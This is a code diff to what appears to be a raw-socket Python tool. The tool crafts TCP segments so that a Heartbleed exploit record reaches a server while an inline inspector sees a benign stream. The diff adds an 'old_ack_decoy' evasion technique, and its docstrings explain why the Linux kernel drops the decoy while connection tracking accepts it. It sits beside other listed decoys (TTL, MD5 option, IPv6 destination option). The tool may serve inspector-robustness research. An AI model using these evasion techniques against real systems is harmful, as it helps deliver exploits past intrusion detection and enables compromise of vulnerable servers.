@@ -24,7 +24,7 @@ Each technique makes the server's stream (what its recv() returns) hold the
 Heartbleed record HEARTBLEED at a record boundary, after a ClientHello (an
 SSLv2-format one in sslv2_then_tls), while an inspector that believes every
 segment it forwards reads a benign stream.  Techniques: urgent syn_data
-syn_established ttl_decoy md5_decoy ipv6_dstopt_decoy ipv4_ts_decoy
+syn_established ttl_decoy old_ack_decoy md5_decoy ipv6_dstopt_decoy ipv4_ts_decoy
 sslv2_then_tls reseed_pickup after_kill (each function's comment says how).
 
 Standard library only (scapy takes ~15 s to import under TCG).  EVASION_WAIT
@@ -161,9 +161,10 @@ class Flow:
         return (seq - self.iss) & MASK
 
     def send(self, flags, seq, payload=b"", note="", tcp_opts=b"", urg_ptr=0,
-             ttl=64, ip_opts=b"", dst_opts=b""):
-        """One segment, as given; nothing is waited for or remembered."""
-        ack = self.rcv_nxt if self.rcv_nxt is not None else 0
+             ttl=64, ip_opts=b"", dst_opts=b"", ack_back=0):
+        """One segment, as given (its ACK ack_back below rcv_nxt); nothing
+        is waited for or remembered."""
+        ack = self.rcv_nxt - ack_back if self.rcv_nxt is not None else 0
         seg = tcp_segment(self.src, self.dst, self.sport, self.dport, seq, ack,
                           flags, payload, tcp_opts, urg_ptr)
         if self.v6:
@@ -310,6 +311,14 @@ def ttl_decoy(f):
     return decoy_then_heartbleed(f, "TTL 2", ttl=2)
 
 
+def old_ack_decoy(f):
+    """An ACK one below one the client already sent: the server has sent
+    no data (bytes_acked 0), so its RFC 5961 limit is snd_una itself and
+    it drops the segment (TCP_TOO_OLD_ACK); conntrack accepts ACKs up to
+    66000 back."""
+    return decoy_then_heartbleed(f, "ACK one below the last", ack_back=1)
+
+
 def md5_decoy(f):
     """A TCP MD5 signature option (kind 19, length 18, any digest): a Linux
     server holding no MD5 key for the peer drops the segment
@@ -384,7 +393,7 @@ def after_kill(f):
 
 
 TECHNIQUES = {t.__name__: t for t in (
-    urgent, syn_data, syn_established, ttl_decoy, md5_decoy,
+    urgent, syn_data, syn_established, ttl_decoy, old_ack_decoy, md5_decoy,
     ipv6_dstopt_decoy, ipv4_ts_decoy, sslv2_then_tls, reseed_pickup,
     after_kill)}
 
